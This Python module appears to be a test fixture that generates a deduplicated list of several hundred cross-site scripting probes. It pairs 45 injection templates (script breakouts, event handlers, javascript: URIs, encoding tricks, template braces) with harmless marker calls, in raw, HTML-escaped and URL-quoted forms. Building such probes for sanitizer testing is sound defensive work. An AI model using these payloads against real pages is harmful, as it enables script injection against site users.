"""Texts that a careless page would run: 300 and more, made of what browsers take for code and of the places where texts stand."""

from collections.abc import Callable
from html import escape
from itertools import product
from urllib.parse import quote

CALLS = ("alert(1)", "window.hit=1", "document.title='hit'")
CODE = (
    "<script>{}</script>",
    "<ScRiPt\n>{}</sCrIpT >",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror={}//",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<math><mi xlink:href=javascript:{}>x</mi></math>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>x</button></form>",
    "<a href=javascript:{}>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "<a href=&#106;avascript:{}>x</a>",
    "<a href=' \x01javascript:{}'>x</a>",
    "<base href=javascript:{}//>",
    "<link rel=stylesheet href=javascript:{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@import 'javascript:{}'</style>",
    "<x style=behavior:url(javascript:{})>",
    '"><script>{}</script>',
    "' onmouseover='{}",
    '" onfocus="{}" autofocus="',
    "` onclick={} `",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "{{{{{}}}}}",
    "{{% {} %}}",
    "${{{}}}",
    "\u2028<script>{}</script>\u2029",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<!--[if IE]><script>{}</script><![endif]-->",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><script>{}</script>'>",
)
DRESSES: tuple[Callable[[str], str], ...] = (str, escape, quote)


def scripts() -> list[str]:
    """Every text once, in an order that is always the same."""
    made = (dress(code.format(call)) for code, call, dress in product(CODE, CALLS, DRESSES))
    return list(dict.fromkeys(made))
